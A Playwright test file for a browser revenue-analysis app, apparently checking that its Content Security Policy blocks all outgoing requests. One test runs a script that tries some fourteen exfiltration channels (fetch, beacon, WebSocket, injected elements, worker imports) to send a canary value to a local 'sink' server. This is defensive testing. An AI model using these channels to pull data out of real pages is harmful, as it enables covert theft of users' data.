// After the seal not one request leaves: not by the page, not by its workers, not on behalf of a report. Judged
// by a server's own log, not by the browser's word.

import { expect, test } from "@playwright/test";
import { createServer, type Server } from "node:http";
import { readFile } from "node:fs/promises";
import { extname, join } from "node:path";
import type { AddressInfo } from "node:net";
import { csv, NinefoldPage } from "./support/page";
import { f1 } from "./support/files";

const dist = join(import.meta.dirname, "../../dist");
const types: Record<string, string> = { ".html": "text/html", ".js": "text/javascript", ".wasm": "application/wasm", ".css": "text/css" };

/** A server of dist/ that remembers every request. */
async function listen(): Promise<{ server: Server; url: string; log: string[] }> {
  const log: string[] = [];
  const server = createServer((request, response) => {
    log.push(`${request.method} ${request.url}`);
    const path = (request.url ?? "/").split("?")[0];
    readFile(join(dist, path === "/" ? "index.html" : path)).then(
      (body) => response.writeHead(200, { "content-type": types[extname(path) || ".html"] ?? "text/plain" }).end(body),
      () => response.writeHead(404).end(),
    );
  });
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  return { server, log, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` };
}

test("nothing reaches our own server or another, whatever the page is made to do", async ({ page }) => {
  const site = await listen();
  const sink = await listen();
  try {
    const ninefold = new NinefoldPage(page);
    await ninefold.open(site.url);
    const before = site.log.length;
    expect(before).toBeGreaterThan(3);

    // The page's own work: a file with a canary in every place, a report, evidence, the other language.
    await ninefold.report(csv("canary-7f3a.csv", "customer_id,month,mrr\ncanary-7f3a,2024-01,100\ncanary-7f3a,2025-01,150\n"));
    await page.locator('[data-metric="nrr"]').first().click();
    await expect(page.getByRole("dialog")).toContainText("canary-7f3a");
    await page.keyboard.press("Escape");

    // Hostile work: every channel a script has.
    const channels = async (target: string) => {
      const tried: Record<string, string> = {};
      const attempt = async (name: string, act: () => unknown) => {
        try {
          await Promise.race([act(), new Promise((done) => setTimeout(done, 500))]);
          tried[name] = "tried";
        } catch (error) {
          tried[name] = String(error);
        }
      };
      await attempt("fetch", () => fetch(`${target}fetch?canary-7f3a`, { mode: "no-cors" }));
      await attempt("xhr", () => {
        const request = new XMLHttpRequest();
        request.open("POST", `${target}xhr`);
        request.send("canary-7f3a");
      });
      await attempt("beacon", () => navigator.sendBeacon(`${target}beacon`, "canary-7f3a"));
      await attempt("socket", () => new WebSocket(`${target.replace("http", "ws")}socket`));
      await attempt("events", () => new EventSource(`${target}events`));
      await attempt("image", () => (new Image().src = `${target}image?canary-7f3a`));
      await attempt("worker", () => new Worker(`${target}worker.js`));
      for (const [tag, key, value] of [["script", "src", "s.js"], ["iframe", "src", "frame"], ["link", "href", "style.css"], ["object", "data", "object"], ["video", "src", "v.mp4"]]) {
        await attempt(tag, () => {
          const element = document.createElement(tag);
          if (tag === "link") element.setAttribute("rel", "stylesheet");
          element.setAttribute(key, target + value);
          document.body.append(element);
        });
      }
      await attempt("form", () => {
        const form = document.createElement("form");
        form.action = `${target}form`;
        form.method = "post";
        document.body.append(form);
        form.submit();
      });
      await attempt("import", () => import(/* @vite-ignore */ `${target}module.js`));
      return tried;
    };
    for (const target of [site.url, sink.url]) {
      const tried = await page.evaluate(channels, target);
      expect(Object.keys(tried)).toHaveLength(14);
      for (const worker of page.workers()) {
        const outcome = await worker.evaluate(async (url) => {
          const fetched = await fetch(`${url}from-worker?canary-7f3a`, { mode: "no-cors" }).then(() => "answered", () => "refused");
          let imported = "answered";
          try {
            (self as unknown as { importScripts(url: string): void }).importScripts(`${url}import.js`);
          } catch {
            imported = "refused";
          }
          return [fetched, imported];
        }, target);
        expect(outcome).toEqual(["refused", "refused"]);
      }
    }
    // Taking the policy's element away does not take the policy away.
    const after = await page.evaluate(async () => {
      document.querySelectorAll("meta[http-equiv]").forEach((meta) => meta.remove());
      return fetch("/").then(() => "answered", () => "refused");
    });
    expect(after).toBe("refused");
    await page.waitForTimeout(300);
    expect(site.log.slice(before)).toEqual([]);
    expect(sink.log).toEqual([]);
  } finally {
    site.server.close();
    sink.server.close();
  }
});

test("before the seal no file can be chosen, and without a policy none ever", async ({ page }) => {
  const site = await listen();
  try {
    // What a proxy that strips policies would leave.
    await page.route(site.url, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(/<meta[^>]*Content-Security-Policy[^>]*>/i, "");
      await route.fulfill({ response, body });
    });
    const ninefold = new NinefoldPage(page);
    await page.goto(site.url);
    await ninefold.reaches("failed");
    await expect(page.locator('[data-testid="file-input"]:not([disabled])')).toHaveCount(0);
    await page.dispatchEvent("body", "drop", {
      dataTransfer: await page.evaluateHandle(() => {
        const transfer = new DataTransfer();
        transfer.items.add(new File(["customer_id,month,mrr\nA,2024-01,1\n"], "a.csv"));
        return transfer;
      }),
    });
    await page.waitForTimeout(300);
    await ninefold.reaches("failed");
    await expect(page.locator("[data-metric]")).toHaveCount(0);
  } finally {
    site.server.close();
  }
});

test("nothing is stored", async ({ page }) => {
  const ninefold = new NinefoldPage(page);
  await ninefold.open();
  await ninefold.report(f1());
  const left = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    hash: location.hash + location.search,
    title: document.title,
  }));
  expect({ ...left, hash: left.hash.replace(/^#\w*$/, "") }).toEqual({ local: 0, session: 0, cookies: "", databases: 0, caches: 0, hash: "", title: left.title });
  expect(left.title).not.toContain("f1");
});

test("what the seal means opens by keyboard and can be read on a phone", async ({ page }) => {
  await page.setViewportSize({ width: 375, height: 600 });
  const ninefold = new NinefoldPage(page);
  await ninefold.open();
  const chip = page.locator("button.seal");
  await chip.focus();
  await page.keyboard.press("Enter");
  const panel = page.getByRole("dialog");
  await expect(panel).toBeVisible();
  await expect(panel).toContainText("0 requests sent, none tried");
  const box = await panel.boundingBox();
  expect(box && box.x >= 0 && box.x + box.width <= 375 && box.y + box.height <= 600).toBe(true);
  // The next stop of the Tab key is the panel, which scrolls by the arrows down to its last line.
  await page.keyboard.press("Tab");
  await expect(panel).toBeFocused();
  await page.keyboard.press("End");
  await expect(panel.locator("li").last()).toBeInViewport({ ratio: 1 });
  // What was refused is counted in sight.
  await page.evaluate(() => fetch("/").catch(() => undefined));
  await expect(panel).toContainText("1 attempt refused");
  await page.keyboard.press("Escape");
  await expect(panel).toBeHidden();
  await expect(chip).toBeFocused();
});
